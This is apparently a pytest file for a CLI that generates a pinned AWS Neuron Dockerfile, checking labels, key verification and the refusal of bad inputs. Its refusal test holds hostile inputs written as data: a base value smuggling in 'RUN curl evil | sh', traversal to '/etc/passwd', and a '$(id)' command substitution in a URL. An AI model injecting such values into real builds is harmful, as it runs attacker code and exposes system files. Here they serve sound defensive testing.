"""`neuronctl setup --dockerfile`: hadolint is not in Debian, so the Dockerfile is parsed here
(instructions, continuation lines, LABEL pairs) and checked: every user-space package pinned to
the release's version, never the driver, the key checked by fingerprint before it is trusted,
the Python stack from the lock, the labels doctor reads."""

from __future__ import annotations

import re
import shlex
import subprocess
from pathlib import Path

import pytest
from support.dockerfile import parse, run_lines

from neuronctl.ops.setup.dockerfile import KEY_AWK, LABELS, ToolSource, render_dockerfile
from neuronctl.ops.setup.repos import KEY_FINGERPRINT
from neuronctl.release.manifest import load_bundled_manifest

TOOL = ToolSource(wheel="dist/neuronctl-0.1.0-py3-none-any.whl", sha256="ab" * 32)
INSTRUCTIONS = {"FROM", "LABEL", "ARG", "SHELL", "RUN", "ENV", "COPY"}


def labels(parsed: list[tuple[str, str]], instruction: str = "LABEL") -> dict[str, str]:
    """The KEY=VALUE pairs of every LABEL (or ENV) instruction."""
    found: dict[str, str] = {}
    for word, rest in parsed:
        if word == instruction:
            for pair in shlex.split(rest):
                key, _, value = pair.partition("=")
                found[key] = value
    return found


PUBLISHED = [r.version for r in load_bundled_manifest().releases if r.system]


@pytest.mark.parametrize("version", [*PUBLISHED[:6], "2.22.1"])
def test_every_pin_label_and_instruction(version):
    release = load_bundled_manifest().get(version)
    text = render_dockerfile(release, base="ubuntu:26.04", lock="locks/pylock.toml", repo=None,
                             fingerprint=KEY_FINGERPRINT, tool=TOOL)
    parsed = parse(text)
    assert {w for w, _ in parsed} <= INSTRUCTIONS
    assert parsed[0] == ("FROM", "ubuntu:26.04")
    found = labels(parsed)
    assert set(found) == {f"com.neuronctl.{k}" for k in LABELS}
    system = release.system
    assert found["com.neuronctl.release"] == version
    assert found["com.neuronctl.runtime"] == system["aws-neuronx-runtime-lib"]
    assert found["com.neuronctl.collectives"] == system["aws-neuronx-collectives"]
    assert found["com.neuronctl.tools"] == system["aws-neuronx-tools"]
    assert found["com.neuronctl.driver"] == system["aws-neuronx-dkms"]
    assert found["com.neuronctl.lock"] == "locks/pylock.toml"
    from packaging.specifiers import SpecifierSet

    SpecifierSet(found["com.neuronctl.driver-range"])  # a range doctor can read
    runs = run_lines(parsed)
    pins = re.findall(r"'(aws-neuron[a-z-]*)=([0-9.]+)\*'", runs)
    assert sorted(pins) == sorted((p, system[p]) for p in
                                  ("aws-neuronx-runtime-lib", "aws-neuronx-collectives",
                                   "aws-neuronx-tools"))
    assert "dkms" not in runs  # never the driver
    assert runs.index("$NEURON_KEY_FPR") < runs.index("--dearmor")  # checked before trusted
    assert ("ARG", f"NEURON_KEY_FPR={KEY_FINGERPRINT}") in parsed
    assert ("COPY", "locks/pylock.toml /opt/neuronctl/pylock.toml") in parsed
    assert "neuronctl install --lock /opt/neuronctl/pylock.toml" in runs
    for word, rest in parsed:
        if word == "RUN":  # one && chain: a failure anywhere fails the build
            body = rest.replace(f"'{KEY_AWK}'", "AWK")
            assert subprocess.run(["sh", "-n", "-c", body], check=False).returncode == 0


def test_amazon_linux_base_uses_dnf():
    release = load_bundled_manifest().get("2.33.1")
    runs = run_lines(parse(render_dockerfile(release, base="amazonlinux:2023", lock="pylock.toml",
                                             repo=None, fingerprint=KEY_FINGERPRINT, tool=TOOL)))
    assert "dnf install -y aws-neuronx-runtime-lib-2.35.33.0 aws-neuronx-collectives-2.35.49.0" in runs
    assert "yum.repos.neuron.amazonaws.com" in render_dockerfile(
        release, base="amazonlinux:2023", lock="pylock.toml", repo=None,
        fingerprint=KEY_FINGERPRINT, tool=TOOL)


@pytest.mark.parametrize("args", [
    ["--base", "ubuntu:26.04\nRUN curl evil | sh"], ["--lock", "../outside.toml"],
    ["--lock", "/etc/passwd"], ["--yes"], ["--with-python"], ["--release", "2.34.0"],
    ["--repo", "https://m.example/$(id)"]])
def test_dockerfile_refusals(cli, args, tmp_path):
    Path("pylock.toml").write_text('lock-version = "1.0"\n')  # in the build context
    out = tmp_path / "Dockerfile"
    result = cli("setup", "--dockerfile", *args, "-o", str(out))
    assert result.code == 2, result.err
    assert not out.exists()


def test_dockerfile_written_atomically(cli, tmp_path):
    Path("pylock.toml").write_text('lock-version = "1.0"\n')  # in the build context
    out = tmp_path / "Dockerfile"
    assert cli("setup", "--dockerfile", "-o", str(out)).code == 0
    assert out.read_text().startswith("# syntax=docker/dockerfile:1\n")
    assert [p.name for p in tmp_path.iterdir()] == ["Dockerfile"]


def test_the_image_tells_a_doctor_inside_it_its_release_and_driver_range():
    """Labels cannot be read from inside a running container: the same values are ENV lines,
    named as the doctor's container check reads them."""
    from neuronctl.ops.doctor.checks_container import RANGE_VAR, RELEASE_VAR

    release = load_bundled_manifest().get("2.33.1")
    text = render_dockerfile(release, base="ubuntu:26.04", lock="pylock.toml", repo=None,
                             fingerprint="00FA2C1079260870A76D2C285749CAD8646D9185", tool=TOOL)
    parsed = parse(text)
    env = labels(parsed, "ENV")
    found = labels(parsed)
    assert env[RELEASE_VAR] == found["com.neuronctl.release"] == "2.33.1"
    assert env[RANGE_VAR] == found["com.neuronctl.driver-range"]


def test_the_dockerfile_copies_the_lock_the_projects_config_names(cli, tmp_path):
    """Config `lock` names where `neuronctl lock` writes the project's lock: the Dockerfile copies
    that one (setup once looked for pylock.toml and told the user to write a second lock)."""
    spec, out = ["--neuronctl-spec", "neuronctl==0.1.0"], tmp_path / "Dockerfile"
    Path("locks").mkdir()
    Path("pyproject.toml").write_text('[tool.neuronctl]\nlock = "locks/pylock.toml"\n')
    Path("pylock.toml").write_text('lock-version = "1.0"\n')  # another lock beside it
    missing = cli("setup", "--dockerfile", *spec, "-o", str(out))
    assert missing.code == 2 and not out.exists()
    assert (f"config `lock` ({Path.cwd() / 'pyproject.toml'}) locks/pylock.toml: no such file in "
            "the build context") in missing.err, missing.err
    assert missing.err.rstrip().endswith("hint: write it first: neuronctl lock"), missing.err
    Path("locks/pylock.toml").write_text('lock-version = "1.0"\n')
    assert cli("setup", "--dockerfile", *spec, "-o", str(out)).code == 0
    assert "COPY locks/pylock.toml /opt/neuronctl/pylock.toml" in out.read_text()
    assert cli("setup", "--dockerfile", *spec, "--lock", "pylock.toml", "-o", str(out)).code == 0
    assert "COPY pylock.toml /opt/neuronctl/pylock.toml" in out.read_text()


@pytest.mark.parametrize("name", ["config/.env", "deploy_key", "requirements.txt", "pylock.toml.bak"])
def test_a_configured_lock_that_is_no_lock_never_reaches_the_image(cli, tmp_path, name):
    """A project's config chooses the file the image gets: only a PEP 751 lock's name (a review
    had `lock = "config/.env"` copied into the image as its lock)."""
    Path("config").mkdir()
    Path(name).write_text("SECRET=QZX1\n")
    Path("pyproject.toml").write_text(f'[tool.neuronctl]\nlock = "{name}"\n')
    out = tmp_path / "Dockerfile"
    r = cli("setup", "--dockerfile", "--neuronctl-spec", "neuronctl==0.1.0", "-o", str(out))
    assert r.code == 2 and not out.exists(), r.err
    assert f"config `lock` ({Path.cwd() / 'pyproject.toml'}) names {name}, not a lock the " \
           "Dockerfile can install" in r.err, r.err
    assert cli("setup", "--dockerfile", "--lock", name, "--neuronctl-spec", "neuronctl==0.1.0",
               "-o", str(out)).code == 2 and not out.exists()


def test_a_configured_lock_outside_the_build_context_is_named_with_its_file(cli, tmp_path,
                                                                            monkeypatch):
    """The user's own config's relative `lock` is from its folder (docs/config.md): outside the
    build context, which the Dockerfile cannot copy from; the error names the key and its file,
    and says to give --lock."""
    folder = tmp_path / "xdg" / "neuronctl"
    folder.mkdir(parents=True)
    (folder / "config.toml").write_text('lock = "pylock.toml"\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder.parent))
    r = cli("setup", "--dockerfile", "--neuronctl-spec", "neuronctl==0.1.0",
            "-o", str(tmp_path / "Dockerfile"))
    assert r.code == 2 and f"config `lock` ({folder / 'config.toml'}): " in r.err, r.err
    assert "a path inside the build context" in r.err and "hint: give --lock NAME" in r.err


def test_json_and_another_format_conflict_in_setup_too(cli):
    r = cli("setup", "--os", "ubuntu-24.04", "--json", "--format", "sh")
    assert r.code == 2 and "--json conflicts with --format sh" in r.err, r.err
